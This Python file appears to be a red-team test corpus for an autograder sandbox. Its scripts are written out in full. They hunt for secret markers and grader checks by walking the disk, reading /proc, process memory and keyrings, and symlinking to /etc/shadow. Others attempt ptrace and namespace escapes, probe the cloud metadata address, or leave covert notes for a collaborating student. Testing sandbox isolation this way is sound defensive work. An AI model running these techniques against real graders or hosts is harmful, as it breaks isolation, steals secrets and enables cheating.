"""Attacks that are after what others know: checks, secrets, other people's work."""

from attacks.corpus import Attack

# A marker is this prefix and sixteen digits; it is put together here so that the attack's own text holds none.
HUNT = """
import os, re, sys
marker = re.compile(("atiende" + "-marker-").encode() + rb"[0-9a-f]{16}")
def hunt(data):
    for match in marker.findall(data if isinstance(data, bytes) else str(data).encode()):
        print("FOUND", match.decode())
"""
WALK = HUNT + """
seen = 0
for base in ("/tmp", "/home", "/root", "/work", "/var", "/etc", "/run", "/opt", "/mnt", "/srv", "/dev", "/.", "..", "../..",
             os.path.expanduser("~"), os.path.dirname(os.path.dirname(sys.modules["atiende"].__file__))):
    for folder, folders, files in os.walk(base):
        folders[:] = [f for f in folders if f not in ("proc", "usr", "sys", "site-packages", "lib", "lib64", "bin")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 2**21:
                    with open(path, "rb") as file:
                        hunt(path.encode() + file.read())
                    seen += 1
            except OSError:
                pass
print("walked")
"""
# The lines of a check are known to whoever reads this repository; what must not be had is a way to them from a worker.
LINES = HUNT + """
import gc, inspect, linecache
WORDS = ["".join(word) for word in (("expect", ".near"), ("student", ".call("), ("draw", ".array("))]
def tell(source):
    for line in str(source).splitlines():
        if any(word in line for word in WORDS):
            print("FOUND a check:", line)
"""

THEFT = (
    Attack("T01", "the caller's frames and linecache are read while a check runs", first=LINES, answer="""
def NAME(*args, **kwargs):
    lines, frame = [], sys._getframe()
    while frame:
        try:
            lines.append(inspect.getsource(frame))
        except Exception:
            pass
        lines += [repr(v)[:20000] for v in list(frame.f_locals.values())]
        frame = frame.f_back
    lines += [line for entry in linecache.cache.values() if len(entry) > 2 for line in entry[2]]
    text = "".join(lines)
    marks = [m.decode() for m in marker.findall(text.encode())]
    checks = [line for line in text.splitlines() if any(word in line for word in WORDS)]
    raise RuntimeError("walked" + "".join(["FO" + "UND"] + marks + checks if marks or checks else []))
""", proof="walked"),
    Attack("T02", "the history of the shell is read", first=LINES, last="""
ip = get_ipython()
names = [str(value) for value in ip.user_ns.values() if value is not WORDS]
for source in [*getattr(ip.history_manager, "input_hist_raw", []), *ip.user_ns.get("In", []), *names]:
    tell(source)
    hunt(source)
print("walked")
""", proof="walked"),
    Attack("T03", "the tests are looked for on disk", first=LINES + """
import importlib, pkgutil, autograder
for module in pkgutil.walk_packages(autograder.__path__, "autograder."):
    print("FOUND", module.name)
for name in ("autograder.checks", "autograder.checks.mlp", "autograder.checks.mlp.ID", "autograder.exercise", "autograder.draw"):
    try:
        importlib.import_module(name)
        print("FOUND", name)
    except ImportError:
        pass
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        try:
            tell(inspect.getsource(module))
        except Exception:
            pass
print("walked")
""", proof="walked"),
    Attack("T05", "the disk is walked for the gradebook, the secret, others' work", first=WALK, proof="walked"),
    Attack("T05_check", "the same while a check runs", answer=f"def NAME(*args, **kwargs):\n    source = {WALK!r}\n" + """
    import contextlib, io
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(source, {})
    raise RuntimeError(out.getvalue()[-900:])
""", proof="walked", states=("graded", "student_timeout")),
    Attack("T07_open", "links are made to files of the host, and opened", first=HUNT + """
import glob
targets = ["/etc/passwd", "/etc/shadow", "/root", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/../..",
           "/dev/fd", "/.old", "/proc/self/fd"]
for i, target in enumerate(targets):
    os.symlink(target, f"link{i}")
    for path in [f"link{i}", *glob.glob(f"link{i}/*"), *glob.glob(f"link{i}/*/.*")]:
        try:
            hunt(open(path, "rb").read(2**20))
        except OSError:
            pass
for path in ("/etc/shadow", "/etc/passwd", "/root/.bashrc"):
    if os.path.exists(path):
        print("FOUND", path)
print("walked")
""", proof="walked"),
    Attack("T13", "other processes are read through /proc", first=HUNT + """
me = os.getpid()
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "stack", "status", "mountinfo", "auxv", "io"):
        try:
            hunt(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            hunt(os.readlink(f"/proc/{pid}/fd/{fd}"))
    except OSError:
        pass
others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 1 and int(p) != me]
print("FOUND other processes" if len(others) > 2 else "walked")
hunt(os.environ)
""", proof="walked"),
    Attack("T13_memory", "one's own memory is searched for what a parent left there", first=HUNT + """
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, mode = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if mode.startswith("rw") and high - low < 2**28:
            try:
                memory.seek(low)
                found.update(marker.findall(memory.read(high - low)))
            except (OSError, OverflowError, ValueError):
                pass
for match in found:
    print("FOUND", match.decode())
print("walked")
""", proof="walked", states=("graded", "student_timeout")),
    Attack("T13_ptrace", "init and the siblings are traced, their memory and descriptors taken", first=HUNT + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [1, 2, os.getppid()]:
    if libc.ptrace(16, pid, 0, 0) == 0 and pid != os.getpid():
        print("FOUND traced", pid)
    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/environ", f"/proc/{pid}/maps"):
        try:
            if pid == 1 and open(path, "rb").read(1):
                print("FOUND open", path)
        except OSError:
            pass
    handle = libc.syscall(434, pid, 0)
    for fd in range(10):
        if pid == 1 and libc.syscall(438, handle, fd, 0) >= 0:
            print("FOUND descriptor of", pid)
print("walked")
""", proof="walked"),
    Attack("T13_namespaces", "namespaces are made anew, to mount and to look below what is mounted", first=HUNT + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        os._exit(7)
    for target in (b"/proc", b"/tmp", b"/home/student", b"/dev/shm", b"/"):
        if libc.umount2(target, 2) == 0 or libc.mount(b"none", target, None, 32 | 4096, None) == 0:
            os._exit(8)
    if libc.chroot(b"/tmp") == 0 or libc.setns(os.open("/proc/self/ns/user", 0), 0) == 0:
        os._exit(9)
    os._exit(0)
status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print("walked" if status == 0 else f"FOUND a way out {status}")
""", proof="walked"),
    Attack("T13_keys", "keyrings of the grader are read", first=HUNT + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 11, ring, buffer, 4096) > 0:
        print("FOUND keys")
if libc.syscall(248, b"user", b"atiende", b"data", 4, -3) > 0:
    print("FOUND a place to leave keys")
print("walked")
""", proof="walked"),
    Attack("T14", "the network is used: the host, the hypervisor, abstract sockets", first=HUNT + """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("169.254.169.254", 80)),
                        (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "\\0atiende"), (40, (2, 1))):
    try:
        s = socket.socket(family)
        s.settimeout(0.2)
        s.connect(address)
        print("FOUND", family)
    except (OSError, TypeError):
        pass
print("walked")
""", proof="walked"),
    Attack("T19", "what is sent to be checked is shown to the student", answer="""
def NAME(*args, **kwargs):
    raise RuntimeError(f"walked {len(args)} {__import__('os').environ}")
""", proof="walked"),
)  # fmt: skip
LEAVE = """
import os, socket
note = ("atiende" + "-marker-") + "00000000000000aa"
places = ["/tmp/note", "/dev/shm/note", "/var/tmp/note", os.path.expanduser("~/note"), "note", "/note", "/run/note", "/home/note"]
for base in (os.path.dirname(np.__file__), os.path.dirname(torch.__file__), os.path.dirname(os.__file__)):
    places += [base + "/note", base + "/__pycache__/note"]
for place in places:
    try:
        with open(place, "w") as file:
            file.write(note)
        os.chmod(place, 0o777)
    except OSError:
        pass
np.note = torch.note = note
from multiprocessing import shared_memory
try:
    block = shared_memory.SharedMemory("note", create=True, size=64)
    block.buf[: len(note)] = note.encode()
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0note")
    listener.listen()
    while True:
        listener.accept()[0].send(note.encode())
print("left")
"""
COLLECT = LEAVE.split("for place in places", 1)[0] + """
got = [getattr(np, "note", ""), getattr(torch, "note", "")]
for place in places:
    try:
        got.append(open(place).read())
    except OSError:
        pass
from multiprocessing import shared_memory
try:
    got.append(bytes(shared_memory.SharedMemory("note").buf))
except OSError:
    pass
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0note")
    got.append(s.recv(100))
except OSError:
    pass
print("FOUND" if any(got) else "walked")
"""
FRIENDS = (
    Attack("T18", "something is left for a friend, everywhere", first=LEAVE, proof="left"),
    Attack("T18_friend", "the friend looks for it", first=COLLECT, proof="walked"),
)
